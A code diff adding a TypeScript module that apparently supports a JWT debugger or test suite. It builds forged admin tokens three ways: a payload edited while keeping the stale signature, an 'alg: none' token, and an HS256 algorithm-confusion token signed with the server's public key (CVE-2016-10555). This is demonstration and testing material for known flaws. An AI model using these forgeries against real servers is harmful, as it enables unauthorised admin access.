@@ -1,0 +1,71 @@
+import type { PublicJwk } from '../../../shared/api/jwks.ts';
+import { decodeSegmentJson, formatJson, splitToken, tamper, withField, type PartResult } from '../debugger/jwt-parts.ts';
+
+/** What an attacker edits: the token's header and payload as JSON text, and its signature. */
+interface EditableToken {
+  headerText: string;
+  payloadText: string;
+  signature: string;
+}
+
+function unwrap<T>(result: PartResult<T>): T {
+  if (!result.ok) throw new Error(result.error);
+  return result.value;
+}
+
+function editable(token: string): EditableToken {
+  const segments = unwrap(splitToken(token));
+  return {
+    headerText: formatJson(unwrap(decodeSegmentJson(segments.header))),
+    payloadText: formatJson(unwrap(decodeSegmentJson(segments.payload))),
+    signature: segments.signature,
+  };
+}
+
+/** The JWT debugger's "Make me admin" with the signature kept: it was computed over the old payload. */
+export function roleChangedToken(token: string): string {
+  const { headerText, payloadText, signature } = editable(token);
+  return unwrap(tamper(headerText, unwrap(withField(payloadText, 'role', 'admin')), signature, 'keep'));
+}
+
+/** The debugger's "Set alg: none" on an admin payload, signature stripped: a server that skipped the check would take it. */
+export function algNoneToken(token: string): string {
+  const { headerText, payloadText } = editable(token);
+  return unwrap(tamper(unwrap(withField(headerText, 'alg', 'none')), unwrap(withField(payloadText, 'role', 'admin')), '', 'strip'));
+}
+
+/** Standard, padded base64 of bytes (PEM's). */
+function base64(bytes: Uint8Array): string {
+  let binary = '';
+  for (const byte of bytes) binary += String.fromCharCode(byte);
+  return btoa(binary);
+}
+
+/** Unpadded base64url of bytes (a JWS signature segment). */
+function base64url(bytes: Uint8Array): string {
+  return base64(bytes).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
+}
+
+/** The public key as the PEM text (SPKI) a vulnerable library would have been configured with. */
+async function publicKeyPem(jwk: PublicJwk): Promise<string> {
+  const algorithm = jwk.kty === 'EC' ? { name: 'ECDSA', namedCurve: String(jwk.crv) } : { name: String(jwk.crv) };
+  const key = await crypto.subtle.importKey('jwk', jwk, algorithm, true, ['verify']);
+  const der = base64(new Uint8Array(await crypto.subtle.exportKey('spki', key)));
+  return `-----BEGIN PUBLIC KEY-----\n${der.match(/.{1,64}/g)!.join('\n')}\n-----END PUBLIC KEY-----\n`;
+}
+
+/**
+ * Algorithm confusion (CVE-2016-10555): the header of an ES256 (or EdDSA) token switched to HS256, its
+ * kid kept, the payload made admin, and an HMAC-SHA256 over it keyed with the server's *public* key, PEM
+ * text as anyone can download it. A server that let the header choose the algorithm would verify this
+ * HMAC with that same public key and accept it.
+ */
+export async function algorithmConfusionToken(token: string, publicJwk: PublicJwk): Promise<string> {
+  const { headerText, payloadText } = editable(token);
+  const unsigned = unwrap(tamper(unwrap(withField(headerText, 'alg', 'HS256')), unwrap(withField(payloadText, 'role', 'admin')), '', 'strip'));
+  const signingInput = unsigned.slice(0, -1);
+  const encoder = new TextEncoder();
+  const secret = await crypto.subtle.importKey('raw', encoder.encode(await publicKeyPem(publicJwk)), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
+  const mac = await crypto.subtle.sign('HMAC', secret, encoder.encode(signingInput));
+  return `${signingInput}.${base64url(new Uint8Array(mac))}`;
+}
